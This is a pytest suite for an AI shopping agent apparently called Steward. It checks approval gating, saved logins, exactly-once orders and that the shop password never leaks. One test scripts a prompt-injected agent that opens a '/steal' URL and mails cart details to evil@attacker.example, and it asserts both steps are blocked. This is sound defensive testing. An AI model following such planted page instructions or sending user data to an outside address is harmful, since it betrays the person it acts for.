"""A person lets Steward shop for them, through the real worker, tools and Chromium: on day 1
a task signs in to the shop with a saved login; on day 3 another task — a new harness, a new
browser, the same profile — is still signed in, finds the kettle, fills the cart, reaches the
checkout and waits for the person's approval with a picture of the form; approved, the order
is placed once. The password shows up nowhere; a page's planted instruction steers nothing; a
research task sends nothing.

The model is scripted: each answer reads the element references (``[ref=e12]``) off the last
page it was shown, as a model would.
"""

from __future__ import annotations

import hashlib
import json
import logging
import re
import subprocess
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import structlog
from sqlalchemy import select  # noqa: TID251 - the leak scan reads every table directly

from steward.app import build_harness
from steward.config import Settings
from steward.domain import ApprovalStatus, TaskSpec, TaskStatus
from steward.domain.clock import SimulatedClock
from steward.models import ScriptedModel
from steward.models.base import Message, ModelResponse, ToolCall, ToolSpec
from steward.models.scripted import ScriptFunction, ScriptItem, call_tool
from steward.service import Service
from steward.store import Store
from steward.store.schema import metadata
from steward.testing.model_server import run_model_server
from support.agents import agent_worker
from support.processes import spawn, start_deadline, stop_all, until
from support.waiting import eventually
from support.web import require_chromium
from support.webserver import Site, serve_site
from support.webshop import Shop, serve_shop

PASSWORD = "kettle-Tr0ub4dor&3"
"""The shop password: looked for everywhere afterwards."""
LOGIN = "corner-shop"
"""The vault secret holding it."""
NAME, ADDRESS = "Ada Lovelace", "12 Analytical Way"
CART = re.compile(r"CART-[0-9A-F]{6}")

Script = Sequence[ScriptItem] | ScriptFunction


def page_of(messages: Sequence[Message]) -> str:
    """The snapshot of the last page a tool showed (JSON ``{"page": ...}``)."""
    for message in reversed(messages):
        if message.role != "tool":
            continue
        try:
            seen = json.loads(message.content)
        except ValueError:
            continue
        if isinstance(seen, dict) and isinstance(seen.get("page"), str):
            return str(seen["page"])
    return ""


def ref(page: str, role: str, name: str) -> str:
    found = re.search(rf'- {role} "{re.escape(name)}"[^\n]*?\[ref=([a-z0-9]+)\]', page)
    if found is None:
        raise LookupError(f'no {role} "{name}" on the page:\n{page}')
    return found.group(1)


def filled(page: str, name: str) -> bool:
    """Whether the page shows a value in the text box ``name``."""
    return re.search(rf'- textbox "{re.escape(name)}"[^\n]*\]: \S', page) is not None


def answering(
    move: Callable[[str, ToolCall | None], ModelResponse], *, strict: bool = False
) -> ScriptFunction:
    """An answer made by ``move`` from the last page seen and the last call made; a page that
    is not as ``move`` expects (or, ``strict``, a call refused) fails the task, saying why."""

    def answer(messages: Sequence[Message], tools: Sequence[ToolSpec]) -> ModelResponse:
        calls = [c for m in messages if m.role == "assistant" for c in m.tool_calls]
        said = messages[-1].content if messages and messages[-1].role == "tool" else ""
        if strict and said.startswith(("error", "denied")):
            return call_tool("fail", reason=f"refused: {said}")
        try:
            return move(page_of(messages), calls[-1] if calls else None)
        except LookupError as exc:
            last = messages[-1].content if messages else ""
            return call_tool("fail", reason=f"{exc}\nlast observation: {last}")

    return answer


def scripted(*moves: Callable[[str], ModelResponse]) -> list[ScriptItem]:
    """``moves`` in turn, each from the last page seen, then finish."""
    return [
        *(answering(lambda page, _, m=m: m(page)) for m in moves),
        call_tool("finish", result="done"),
    ]


def sign_in(url: str) -> list[ScriptItem]:
    return scripted(
        lambda _: call_tool("browser_open", url=f"{url}/login"),
        lambda page: call_tool(
            "browser_login",
            login=LOGIN,
            username_ref=ref(page, "textbox", "Username"),
            password_ref=ref(page, "textbox", "Password"),
            submit_ref=ref(page, "button", "Log in"),
        ),
    )


def buy_kettle(url: str) -> ScriptFunction:
    """The shopper: each answer from the page in front of it (as a model would, so that a
    restarted worker, or a conversation compacted since, carries on where the page is)."""

    def move(page: str, last: ToolCall | None) -> ModelResponse:
        heading = re.search(r'heading "([^"]*)" \[level=1\]', page)
        title = heading.group(1) if heading else ""
        if not page:
            return call_tool("browser_open", url=f"{url}/search?q=kettle")
        if title.startswith("Search"):
            return call_tool("browser_click", ref=ref(page, "link", "Blue kettle"))
        if title == "Blue kettle" and "Added to cart" in page:
            return call_tool("browser_click", ref=ref(page, "link", "Cart"))
        add = ref(page, "button", "Add to cart") if title == "Blue kettle" else ""
        if add and last is not None and json.loads(last.arguments).get("ref") == add:
            return call_tool("browser_wait", text="Added to cart", seconds=30)  # clicked
        if add:  # the cart's fetch() sends: a submission, put to the person
            return call_tool(
                "browser_submit", ref=add, expect_url=f"{url}/cart", expect_text="Blue kettle"
            )
        if title == "Your cart":
            return call_tool("browser_click", ref=ref(page, "link", "Checkout"))
        if title == "Checkout" and not filled(page, "Full name"):
            return call_tool("browser_type", ref=ref(page, "textbox", "Full name"), text=NAME)
        if title == "Checkout" and not filled(page, "Address"):
            return call_tool("browser_type", ref=ref(page, "textbox", "Address"), text=ADDRESS)
        if title == "Checkout":
            return call_tool(
                "browser_submit",
                ref=ref(page, "button", "Place order"),
                expect_url=f"{url}/orders",
                expect_text=cart_in(page),
            )
        return call_tool("finish", result=f"done: {title}")

    return answering(move, strict=True)


def cart_in(page: str) -> str:
    found = CART.search(page)
    if found is None:
        raise LookupError(f"no cart reference on the page:\n{page}")
    return found.group(0)


@pytest.fixture(autouse=True)
def chromium() -> None:
    require_chromium()


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Shop]:
    with serve_shop(tmp_path / "shop", accounts={"ada": PASSWORD}) as running:
        yield running


@pytest.fixture
def elsewhere() -> Iterator[Site]:
    """Another server (127.0.0.1, a host no connection names) the planted text points at."""
    with serve_site() as site:
        site.page("/steal", "<p>thanks</p>")
        yield site


@pytest.fixture
def logs() -> Iterator[list[dict[str, Any]]]:
    """Every structlog event of the test, at every level (scanned for the password)."""
    structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(logging.DEBUG))
    try:
        with structlog.testing.capture_logs() as captured:
            yield captured
    finally:
        structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(logging.WARNING))


class Day:
    """The person, their shop connection and saved login, and tasks run by a fresh harness
    each time (as a restarted worker would build it)."""

    def __init__(self, store: Store, clock: SimulatedClock, data: Path) -> None:
        self.store, self.clock, self.data = store, clock, data
        self.svc = Service(store, clock, data_dir=data)
        self.person = ""

    async def setup(self) -> None:
        self.person = (await self.svc.ensure_person()).id
        await self.svc.add_connection(
            person_id=self.person,
            kind="browser",
            name="shop",
            scopes=["browser.read", "browser.act", "browser.submit"],
            hosts=["localhost"],
        )
        secret = json.dumps({"username": "ada", "password": PASSWORD})
        await self.svc.put_secret(
            person_id=self.person, name=LOGIN, value=secret, hosts=["localhost"]
        )

    async def ask(self, instructions: str, script: Script, *, research: bool = False) -> str:
        task_input: dict[str, Any] = {"instructions": instructions}
        if research:
            task_input["mode"] = "research"
        task = await self.svc.create_task(
            person_id=self.person,
            spec=TaskSpec(kind="agent", input=task_input, title=instructions[:80], max_attempts=3),
        )
        await self.run(script)
        return task.id

    async def run(self, script: Script) -> None:
        """One worker, on a harness built now (a restart: a new browser on the same profile)."""
        model = ScriptedModel(script)
        harness = await build_harness(
            Settings(data_dir=self.data), self.store, self.clock, model=model
        )
        await agent_worker(self.store, harness, self.clock).run_until_idle()

    async def status(self, task_id: str) -> TaskStatus:
        return (await self.svc.get_task(task_id)).status

    async def said(self, task_id: str) -> dict[str, list[str]]:
        """Each tool's observations in the task, by tool name."""
        seen: dict[str, list[str]] = {}
        for step in await self.svc.steps(task_id):
            if step.kind == "tool":
                seen.setdefault(step.output["name"], []).append(step.output["observation"])
        return seen

    async def story(self, task_id: str) -> str:
        """The task's steps, for a failure message."""
        return "\n".join(f"{s.seq} {s.kind}: {s.output}" for s in await self.svc.steps(task_id))


async def test_signed_in_on_day_one_the_day_three_order_waits_for_approval_and_is_placed_once(
    store: Store,
    clock: SimulatedClock,
    tmp_path: Path,
    shop: Shop,
    logs: list[dict[str, Any]],
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    day = Day(store, clock, tmp_path / "data")
    await day.setup()

    first = await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
    assert await day.status(first) is TaskStatus.SUCCEEDED, await day.story(first)
    [signed] = shop.state.requests("POST", "/login")
    assert (signed.status, signed.form["username"]) == (303, "ada")
    [login_said] = (await day.said(first))["browser_login"]
    assert "Welcome back, ada" in login_said

    clock.advance(timedelta(days=2))
    seen_before = len(shop.state.requests())
    second = await day.ask(
        f"Order a blue kettle from {shop.url} to {NAME}, {ADDRESS}", buy_kettle(shop.url)
    )
    assert await day.status(second) is TaskStatus.WAITING, await day.story(second)
    [adding] = await day.svc.list_approvals(person_id=day.person, status=ApprovalStatus.PENDING)
    assert adding.preview is not None
    assert dict(adding.preview.facts)["Button"] == "Add to cart"
    assert shop.state.count("POST", "/cart/add") == 0  # nothing sent before the person says so
    await day.svc.decide_approval(adding.id, approve=True)
    await day.run(buy_kettle(shop.url))  # resumed by another worker: a restart
    assert await day.status(second) is TaskStatus.WAITING, await day.story(second)
    day3 = shop.state.requests()[seen_before:]
    assert shop.state.count("POST", "/login") == 1  # still signed in: no second login
    assert all(s.user == "ada" for s in day3 if s.path != "/login")
    assert [s.path for s in day3 if s.method == "POST"] == ["/cart/add"]  # nothing ordered yet
    ref, items = shop.state.cart("ada")
    assert items == {"blue-kettle": 1}

    [asked] = await day.svc.list_approvals(person_id=day.person, status=ApprovalStatus.PENDING)
    assert asked.tool == "browser_submit"
    assert asked.preview is not None
    assert asked.preview.picture is not None
    picture = Settings(data_dir=day.data).workspace_dir / day.person / asked.preview.picture
    png = picture.read_bytes()
    assert png.startswith(b"\x89PNG")
    assert hashlib.sha256(png).hexdigest() == asked.preview.picture_sha256
    values = {value for _, value in asked.preview.facts}
    assert {"localhost", NAME, ADDRESS} <= values, asked.preview.facts
    assert asked.args["expect_text"] == ref

    await day.svc.decide_approval(asked.id, approve=True)
    await day.run(buy_kettle(shop.url))  # the worker that resumes it: another restart
    assert await day.status(second) is TaskStatus.SUCCEEDED, await day.story(second)
    assert shop.state.count("POST", "/order") == 1
    [order] = shop.state.orders()
    assert (order.cart, order.items, order.name, order.address) == (
        ref,
        (("blue-kettle", 1),),
        NAME,
        ADDRESS,
    )
    [posted] = shop.state.requests("POST", "/order")
    assert posted.user == "ada"
    assert posted.form == {"cart": ref, "name": NAME, "address": ADDRESS}  # the form as shown

    await assert_password_nowhere(day, [first, second], tmp_path, logs, caplog)


@pytest.mark.slow
async def test_a_worker_killed_right_after_the_order_left_finds_it_in_the_history(
    db_url: str, store: Store, tmp_path: Path, shop: Shop
) -> None:
    """Day 3 in worker processes (real restarts): the first is killed by the shop the moment
    the order form reached it, before it could record the answer; the next one settles the
    submission by reading the order history — it is not sent again."""
    seconds = start_deadline(120)  # measured before the processes below compete with it
    clock = SimulatedClock(datetime.now(UTC) - timedelta(days=2))  # day 3 is today
    day = Day(store, clock, tmp_path / "data")
    await day.setup()
    first = await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
    assert await day.status(first) is TaskStatus.SUCCEEDED, await day.story(first)
    clock.advance(timedelta(days=2))

    logs = tmp_path / "logs"
    logs.mkdir()
    procs: dict[str, subprocess.Popen[bytes]] = {}
    with run_model_server(ScriptedModel(buy_kettle(shop.url))) as model:
        env = {
            "STEWARD_DATA_DIR": str(day.data),
            "STEWARD_MODEL": "scripted",
            "STEWARD_MODEL_BASE_URL": model.url,
            "STEWARD_MODEL_API_KEY": model.api_key,
        }
        lease = ("--lease-seconds", "5")
        try:
            task = (
                await day.svc.create_task(
                    person_id=day.person,
                    spec=TaskSpec(
                        kind="agent",
                        input={"instructions": f"Order a blue kettle from {shop.url}"},
                        max_attempts=5,
                    ),
                )
            ).id
            procs["scheduler"] = spawn("scheduler", db_url, logs / "scheduler.log", env=env)
            procs["doomed"] = spawn("worker", db_url, logs / "doomed.log", *lease, env=env)

            async def asked() -> bool:
                if await day.status(task) in (TaskStatus.FAILED, TaskStatus.SUCCEEDED):
                    pytest.fail(f"the task ended without asking:\n{await day.story(task)}")
                pending = await day.svc.list_approvals(
                    person_id=day.person, status=ApprovalStatus.PENDING
                )
                return len(pending) == 1

            await until(asked, "the cart to be put to the person", procs, logs, seconds)
            [adding] = await day.svc.list_approvals(
                person_id=day.person, status=ApprovalStatus.PENDING
            )
            assert adding.preview is not None
            assert dict(adding.preview.facts)["Button"] == "Add to cart"
            await day.svc.decide_approval(adding.id, approve=True)
            await until(asked, "the order to be put to the person", procs, logs, seconds)
            [approval] = await day.svc.list_approvals(
                person_id=day.person, status=ApprovalStatus.PENDING
            )
            assert approval.preview is not None
            assert approval.preview.picture is not None
            assert shop.state.count("POST", "/login") == 1  # signed in since day 1
            doomed = procs["doomed"]
            shop.on_order = doomed.kill  # the order is recorded; the worker never hears back
            await day.svc.decide_approval(approval.id, approve=True)

            async def killed() -> bool:
                return bool(doomed.poll() is not None)

            await eventually(killed, "the shop to kill the worker", seconds=seconds)
            shop.on_order = None
            del procs["doomed"]
            assert shop.state.count("POST", "/order") == 1
            history_reads = shop.state.count("GET", "/orders")

            procs["next"] = spawn("worker", db_url, logs / "next.log", *lease, env=env)

            async def done() -> bool:
                if await day.status(task) is TaskStatus.FAILED:
                    pytest.fail(f"the task failed:\n{await day.story(task)}")
                return await day.status(task) is TaskStatus.SUCCEEDED

            await until(done, "the task to succeed", procs, logs, seconds)
        finally:
            stop_all(procs)
    assert shop.state.count("POST", "/order") == 1  # placed once
    assert shop.state.count("GET", "/orders") > history_reads  # settled by reading the history
    [order] = shop.state.orders()
    [_, submitted] = (await day.said(task))["browser_submit"]
    assert order.cart in submitted  # the history page it was found on
    assert shop.state.count("POST", "/login") == 1
    _, leaked = files_holding(tmp_path, PASSWORD.encode())  # the workers' logs too
    assert leaked == []


async def assert_password_nowhere(
    day: Day,
    tasks: list[str],
    root: Path,
    logs: list[dict[str, Any]],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Not in a step, an approval, the audit log, any table, any log record, or any file under
    ``root`` (the data directory, its browser profile and pictures, the database, the shop's
    own files): only the vault's ciphertext holds it."""
    for task in tasks:
        steps = json.dumps([s.output for s in await day.svc.steps(task)], default=str)
        assert PASSWORD not in steps
    approvals = await day.svc.list_approvals(person_id=day.person, status=None)
    assert approvals
    assert PASSWORD not in repr(approvals)
    audit = await day.svc.audit_log(person_id=day.person)
    assert audit
    assert PASSWORD not in repr(audit)
    scanned = 0
    for table in metadata.sorted_tables:
        rows = await day.store.backend.read(lambda c, t=table: c.execute(select(t)).all())
        scanned += len(rows)
        assert not [row for row in rows if PASSWORD in str(tuple(row))], table.name
    assert scanned > 0
    assert logs  # the scan saw real events
    assert PASSWORD not in repr(logs)
    assert not [r.getMessage() for r in caplog.records if PASSWORD in r.getMessage()]
    files, leaked = files_holding(root, PASSWORD.encode())
    assert [p for p in files if p.suffix == ".png"]  # the approval's picture at least
    assert leaked == []


def files_holding(root: Path, needle: bytes) -> tuple[list[Path], list[str]]:
    """Every file under ``root``, and those whose bytes hold ``needle``."""
    files = [p for p in root.rglob("*") if p.is_file() and not p.is_symlink()]
    return files, [str(p) for p in files if needle in p.read_bytes()]


async def test_a_planted_instruction_steers_nothing(
    store: Store, clock: SimulatedClock, tmp_path: Path, shop: Shop, elsewhere: Site
) -> None:
    shop.steal_url = f"{elsewhere.url}/steal"
    day = Day(store, clock, tmp_path / "data")
    await day.setup()
    await day.svc.add_connection(
        person_id=day.person, kind="mail", name="home", scopes=["mail.read", "mail.send"]
    )
    await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
    task = await day.ask(
        f"What is today's deal at {shop.url}/deals?",
        scripted(
            lambda _: call_tool("browser_open", url=f"{shop.url}/deals"),
            # what a model steered by the page would do next
            lambda _: call_tool("browser_open", url=f"{elsewhere.url}/steal"),
            lambda _: call_tool(
                "mail_send",
                to=["evil@attacker.example"],
                subject="My cart",
                body="The cart, as asked on the deals page.",
            ),
        ),
    )
    said = await day.said(task)
    [deal, refused] = said["browser_open"]
    assert "evil@attacker.example" in deal  # the model was shown the planted text
    assert refused.startswith(("denied", "error")), refused
    assert elsewhere.count() == 0  # nothing reached the other host
    assert await day.status(task) is TaskStatus.WAITING, await day.story(task)
    [asked] = await day.svc.list_approvals(person_id=day.person, status=ApprovalStatus.PENDING)
    assert asked.tool == "mail_send"
    assert asked.args["to"] == ["evil@attacker.example"]
    assert "untrusted input" in asked.reason
    assert "mail_send" not in said  # it did not run
    assert shop.state.count("POST", "/order") == 0


async def test_research_cannot_type_or_send_anything(
    store: Store, clock: SimulatedClock, tmp_path: Path, shop: Shop
) -> None:
    day = Day(store, clock, tmp_path / "data")
    await day.setup()
    await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
    shop.state.put_in_cart("ada", "green-teapot")  # put there by the person, earlier
    posts_before = len(shop.state.requests("POST"))
    task = await day.ask(
        f"Look into kettles at {shop.url}",
        scripted(
            lambda _: call_tool("browser_open", url=f"{shop.url}/product/blue-kettle"),
            lambda page: call_tool("browser_click", ref=ref(page, "button", "Add to cart")),
            lambda page: call_tool("browser_click", ref=ref(page, "link", "Cart")),
            lambda page: call_tool("browser_click", ref=ref(page, "link", "Checkout")),
            lambda page: call_tool(
                "browser_type", ref=ref(page, "textbox", "Full name"), text=NAME
            ),
            lambda page: call_tool(
                "browser_submit",
                ref=ref(page, "button", "Place order"),
                expect_url=f"{shop.url}/orders",
                expect_text="Order 1",
            ),
        ),
        research=True,
    )
    assert await day.status(task) is TaskStatus.SUCCEEDED, await day.story(task)
    said = await day.said(task)
    assert said["browser_type"][0].startswith("denied"), said["browser_type"]
    assert said["browser_submit"][0].startswith("denied"), said["browser_submit"]
    assert shop.state.requests("POST")[posts_before:] == []  # not even the cart's fetch()
    assert await day.svc.list_approvals(person_id=day.person, status=None) == []


async def test_a_password_change_or_an_account_deletion_is_left_to_the_person(
    store: Store, clock: SimulatedClock, tmp_path: Path, shop: Shop
) -> None:
    day = Day(store, clock, tmp_path / "data")
    await day.setup()
    await day.ask(f"Sign in to my corner shop at {shop.url}", sign_in(shop.url))
    task = await day.ask(
        f"Change my password at {shop.url}/account, then delete the account",
        scripted(
            lambda _: call_tool("browser_open", url=f"{shop.url}/account"),
            lambda page: call_tool(
                "browser_type", ref=ref(page, "textbox", "New password"), text="another one"
            ),
            lambda page: call_tool(
                "browser_submit",
                ref=ref(page, "button", "Change password"),
                expect_url=f"{shop.url}/account",
                expect_text="Password changed",
            ),
            lambda page: call_tool(
                "browser_submit",
                ref=ref(page, "button", "Delete account"),
                expect_url=f"{shop.url}/account",
                expect_text="Account deleted",
            ),
        ),
    )
    assert await day.status(task) is TaskStatus.SUCCEEDED, await day.story(task)
    change, delete = (await day.said(task))["browser_submit"]
    assert "only the person" in change, change
    assert "only the person" in delete, delete
    assert shop.state.requests("POST", "/account/password") == []
    assert shop.state.requests("POST", "/account/delete") == []
    assert await day.svc.list_approvals(person_id=day.person, status=None) == []
